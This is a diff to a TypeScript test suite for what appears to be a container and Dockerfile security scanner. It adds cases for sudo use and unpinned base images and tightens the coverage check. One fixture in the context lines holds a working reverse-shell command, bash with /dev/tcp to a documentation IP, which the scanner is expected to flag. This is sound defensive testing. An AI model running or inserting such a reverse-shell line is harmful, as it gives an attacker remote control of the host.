@@ -71,6 +71,29 @@ const cases: readonly (readonly [id: string, input: Input, said: readonly string
     service(['command: ["sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"]']),
     ['service web is started so: opens a shell to the network'],
   ],
+  ['backdoor-script', service(['command: ["sh", "-c", "bash -c \'exec app\' > /dev/null 2>&1"]']), []],
+  ['sudo', dockerfile('RUN sudo -E apt-get update'), ['image of /Dockerfile runs apt-get with sudo']],
+  ['sudo', dockerfile('RUN echo sudo'), []],
+  [
+    'unpinned-image',
+    dockerfile('COPY --from=nginx:latest /a /a', 'RUN --mount=type=bind,from=alpine,target=/m cp /m/a /a'),
+    [
+      'image of /Dockerfile takes files from nginx:latest',
+      'image of /Dockerfile takes files from alpine without a version',
+    ],
+  ],
+  [
+    'unpinned-image',
+    dockerfile(
+      'FROM base:1.2 AS Next',
+      'COPY --from=0 /a /a',
+      'FROM base:1.2',
+      'COPY --from=next /a /a',
+      'COPY --from=nginx:1.27 /a /a',
+      'RUN --mount=type=cache,target=/var/cache true',
+    ),
+    [],
+  ],
   ['capabilities-kept', podmanContainer([]), []],
   ['capabilities-kept', podmanContainer(['CAP_CHOWN']), ['container c does not drop all capabilities']],
   ['engine-socket', service(['volumes: ["data:/var/run/docker.sock"]']), []],
@@ -258,7 +281,7 @@ const cases: readonly (readonly [id: string, input: Input, said: readonly string
   ],
   ['wide-permissions', dockerfile('COPY --chmod=755 x /x'), []],
   ['sudo', dockerfile('RUN apk add sudo'), ['image of /Dockerfile installs sudo']],
-  ['sudo', dockerfile('RUN sudo true'), []],
+  ['sudo', dockerfile('RUN sudo true'), ['image of /Dockerfile runs true with sudo']],
   [
     'secret-file',
     dockerfile('COPY id_rsa id_rsa.pub /root/.ssh/'),
@@ -387,10 +410,13 @@ const cases: readonly (readonly [id: string, input: Input, said: readonly string
 ];
 
 describe('every check', () => {
-  it('of containers, builds and engines stands among the cases', () => {
-    const asked = new Set(cases.map(([id]) => id));
+  it('of containers, builds and engines stands among the cases, with one that it speaks of and one that it does not', () => {
+    const isAsked = (id: string, speaks: boolean): boolean =>
+      cases.some(([one, , said]) => one === id && said.length > 0 === speaks);
     const methods = ['workload', 'build', 'engine', 'pod'];
-    const missing = allChecks.filter((check) => methods.some((method) => method in check) && !asked.has(check.id));
+    const missing = allChecks
+      .filter((check) => methods.some((method) => method in check))
+      .filter(({ id }) => !isAsked(id, true) || !isAsked(id, false));
     expect(missing.map(({ id }) => id)).toEqual([]);
   });
 
